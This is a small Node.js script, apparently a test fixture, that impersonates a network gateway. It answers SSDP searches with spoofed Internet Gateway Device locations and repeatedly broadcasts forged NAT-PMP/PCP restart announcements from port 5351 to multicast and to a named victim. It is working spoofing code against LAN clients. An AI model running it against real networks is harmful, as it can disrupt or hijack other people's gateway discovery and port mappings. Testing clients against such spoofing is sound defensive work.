// Somebody on the network who is not the gateway and would like to be: answers every search with descriptions at its own address,
// announces that the gateway began anew, and says what happened to it. Arguments: the gateway's address and the victim's.

import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';

const [, , gateway, victim] = process.argv;
const say = (line) => process.stdout.write(`${line}\n`);
const IGD = 'urn:schemas-upnp-org:device:InternetGatewayDevice:1';

const http = createServer((_request, response) => {
  say('asked');
  response.end();
});
http.listen(5000, '0.0.0.0');

const ssdp = createSocket({ type: 'udp4', reuseAddr: true });
ssdp.on('message', (bytes, from) => {
  if (!bytes.toString().startsWith('M-SEARCH')) return;
  say('searched');
  for (const location of ['http://192.168.77.3:5000/desc.xml', `http://${gateway}:5000/desc.xml`]) {
    ssdp.send(`HTTP/1.1 200 OK\r\nST: ${IGD}\r\nLOCATION: ${location}\r\n\r\n`, from.port, from.address);
  }
});
ssdp.bind(1900, '0.0.0.0', () => {
  ssdp.addMembership('239.255.255.250', '192.168.77.3');
  // From the right port, and not from the right address.
  const server = createSocket('udp4');
  server.bind(5351, '192.168.77.3', () => {
    server.setMulticastInterface('192.168.77.3');
    setInterval(() => {
      const announcement = new Uint8Array(24);
      announcement.set([2, 128]);
      server.send(announcement, 5350, '224.0.0.1');
      server.send(announcement, 5351, victim);
    }, 200);
    say('ready');
  });
});
